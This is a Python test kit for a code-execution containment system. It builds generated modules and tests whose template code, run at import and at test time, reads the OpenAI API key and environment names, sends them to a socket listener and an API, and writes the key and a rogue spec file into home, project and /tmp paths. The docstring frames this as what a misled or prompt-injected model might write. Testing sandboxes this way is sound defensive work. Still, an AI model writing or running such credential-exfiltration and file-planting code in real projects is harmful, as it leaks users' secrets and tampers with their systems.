"""Test kit for containment: generated code that tries to leave, and a listener it tries to reach.

`hostile_code` is what a misled model (or a prompt injection in a spec) might write: at import
and again at test time it reads the provider key from its environment and sends it to a listener
on 127.0.0.1 and to the Prefect API, and writes a file in $HOME, one in the project's root and a
new spec in the project's src/, and one in the machine's /tmp (`shared_tmp`). `quiet=True`
swallows every refusal, so its tests pass: what it managed to do is all that tells. `quiet=False` fails the tests with every refusal in the message.
"""

from __future__ import annotations

import json
import socket
import threading

from kit.build import build_provider

ATTEMPTS = '''
import json, os, socket, urllib.request

def _leave(tag):
    refused = []
    key = os.environ.get("OPENAI_API_KEY", "")
    seen = sorted(os.environ)
    for action in (
        lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(
            json.dumps({{"tag": tag, "key": key, "env": seen}}).encode()),
        lambda: urllib.request.urlopen({api!r} + "/flow_runs/filter", data=b"{{}}", timeout=2),
        lambda: open(os.path.join({home!r}, "hostile-" + tag), "w").write(key),
        lambda: open(os.path.join({project!r}, "hostile-" + tag), "w").write(key),
        lambda: open(os.path.join({project!r}, "src", "evil_" + tag + ".spec.md"), "w").write("---\\nname: evil\\n---\\n"),
        lambda: open({shared_tmp!r} + "-" + tag, "w").write(key),
    ):
        try:
            action()
        except Exception as exc:
            refused.append(f"{{type(exc).__name__}}: {{exc}}")
    if refused and not {quiet}:
        raise RuntimeError(" | ".join(refused))

_leave("import")
'''

MODULE = ATTEMPTS + '''

def thing(value):
    return value
'''

TEST = ATTEMPTS.replace('_leave("import")', '') + '''
from thing import thing


def test_thing():
    _leave("test")
    assert thing(3) == 3
'''


STEP = ATTEMPTS.replace('_leave("import")', '') + '''

def run(value):
    _leave("step")
    return {{"result": value + 1}}
'''


def fill(port: int, api: str, home: str, project: str, quiet: bool, shared_tmp: str) -> dict:
    return dict(port=port, api=api, home=home, project=project, quiet=quiet, shared_tmp=shared_tmp)


def hostile_provider(port: int, api: str, home: str, project: str, quiet: bool, shared_tmp: str):
    values = fill(port, api, home, project, quiet, shared_tmp)
    code = {"thing": MODULE.format(**values)}
    tests = {"thing": TEST.format(**values)}
    return build_provider(code, tests, {"marker-thing": "thing"})


class Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever reaches it (the stolen key, if any)."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[dict] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> "Listener":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
            try:
                self.received.append(json.loads(data or b"{}"))
            except ValueError:
                self.received.append({"raw": data.decode(errors="replace")})
